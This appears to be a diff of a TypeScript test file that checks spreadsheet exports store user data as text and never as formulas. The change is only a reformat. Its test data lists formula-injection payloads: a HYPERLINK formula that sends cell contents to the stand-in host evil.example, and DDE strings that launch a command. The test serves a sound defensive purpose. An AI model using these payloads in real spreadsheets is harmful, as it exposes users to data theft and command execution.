@@ -19,7 +19,7 @@ function sheetXml(xlsx: Buffer): string {
 }
 
 describe('XLSX exports write text cells as text: no formula can be created by data (issue 16)', () => {
-  const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
+  const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0"];
   const input = registerBookFixture(6, 1);
   ATTACKS.forEach((attack, i) => {
     const row = input.sections[0]?.rows[i];
@@ -32,9 +32,12 @@ describe('XLSX exports write text cells as text: no formula can be created by da
     const { sheet } = await readSheet(xlsx);
     const cells = ATTACKS.map((attack) => {
       let found: { type: ValueType; numFmt: string | undefined; formula: unknown } | undefined;
-      sheet.eachRow((row) => row.eachCell((cell) => {
-        if (cell.value === attack && !found) found = { type: cell.type, numFmt: cell.numFmt, formula: (cell as { formula?: unknown }).formula };
-      }));
+      sheet.eachRow((row) =>
+        row.eachCell((cell) => {
+          if (cell.value === attack && !found)
+            found = { type: cell.type, numFmt: cell.numFmt, formula: (cell as { formula?: unknown }).formula };
+        }),
+      );
       return found;
     });
     expect(cells).toEqual(ATTACKS.map(() => ({ type: ValueType.String, numFmt: '@', formula: undefined })));
@@ -43,9 +46,11 @@ describe('XLSX exports write text cells as text: no formula can be created by da
   it('numbers and dates keep their own formats', async () => {
     const { sheet } = await readSheet(await registerBookToXlsx(registerBookFixture(4, 1)));
     const formats = new Set<string>();
-    sheet.eachRow((row) => row.eachCell((cell) => {
-      if (cell.type === ValueType.Number || cell.type === ValueType.Date) formats.add(cell.numFmt ?? 'General');
-    }));
+    sheet.eachRow((row) =>
+      row.eachCell((cell) => {
+        if (cell.type === ValueType.Number || cell.type === ValueType.Date) formats.add(cell.numFmt ?? 'General');
+      }),
+    );
     expect(formats.has('@')).toBe(false);
   });
 });
